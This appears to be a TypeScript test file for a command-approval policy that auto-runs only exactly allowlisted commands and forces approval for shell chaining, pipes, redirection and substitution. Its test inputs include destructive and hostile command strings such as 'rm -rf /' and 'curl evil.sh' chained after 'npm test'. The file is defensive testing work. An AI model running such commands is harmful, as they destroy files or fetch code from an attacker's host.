import * as assert from 'node:assert/strict';
import { classifyCommand } from '../../../src/core/approval/commands/commandPolicy';

function reasonOf(command: string, allowed: string[]): string {
  const result = classifyCommand(command, allowed);
  assert.equal(result.decision, 'ask', `${JSON.stringify(command)} should ask`);
  return result.decision === 'ask' ? result.reason : '';
}

describe('approval: classifyCommand', () => {
  const allowed = ['npm test', 'npm run lint', '  git status  '];

  it('runs exactly listed commands without asking, after trimming both sides', () => {
    assert.deepEqual(classifyCommand('npm test', allowed), { decision: 'auto' });
    assert.deepEqual(classifyCommand('  npm test\t', allowed), { decision: 'auto' });
    assert.deepEqual(classifyCommand('git status', allowed), { decision: 'auto' });
  });

  it('never matches by prefix, suffix or case', () => {
    for (const command of ['npm test -- --grep x', 'npm tests', 'npm', 'NPM TEST', 'npm  test', 'sudo npm test']) {
      assert.match(reasonOf(command, allowed), /not in tasklane\.approval\.allowedCommands/, command);
    }
  });

  it('asks for an empty command and with an empty allowlist', () => {
    assert.match(reasonOf('   ', allowed), /empty/);
    assert.match(reasonOf('npm test', []), /not in/);
  });

  // Each construct asks even when the whole string is in the allowlist.
  const constructs: Array<[string, RegExp]> = [
    ['npm test; rm -rf /', /chaining with ;/],
    ['npm test && curl evil.sh', /chaining with &&/],
    ['npm test || true', /chaining with \|\|/],
    ['npm test | tee out', /a pipe \|/],
    ['npm test &', /background or chaining &/],
    ['npm test\nrm -rf /', /line break/],
    ['npm test\r\nrm x', /line break/],
    ['npm test > out.txt', /output redirection >/],
    ['npm test >> out.txt', /redirection >>/],
    ['npm test < in.txt', /input redirection </],
    ['npm test 2> err.txt', /file-descriptor redirection/],
    ['npm test 2>&1', /file-descriptor redirection/],
    ['echo $(whoami)', /command substitution \$\(/],
    ['echo `whoami`', /backticks/],
    ['diff <(ls a) <(ls b)', /process substitution/],
    ['echo $HOME', /variable expansion \$VAR/],
    ['echo ${HOME}', /variable expansion \$\{/],
    ['echo $1', /variable expansion \$VAR/],
    ['echo %PATH%', /%VAR%/],
    ['echo "$(id)"', /command substitution/],
    ["echo 'a;b'", /chaining with ;/],
    ['npm test\u0007', /control character/],
  ];

  for (const [command, reason] of constructs) {
    it(`asks for ${JSON.stringify(command)} even when listed`, () => {
      const text = reasonOf(command, [...allowed, command, command.trim()]);
      assert.match(text, reason);
      assert.match(text, /always need approval/);
    });
  }
});
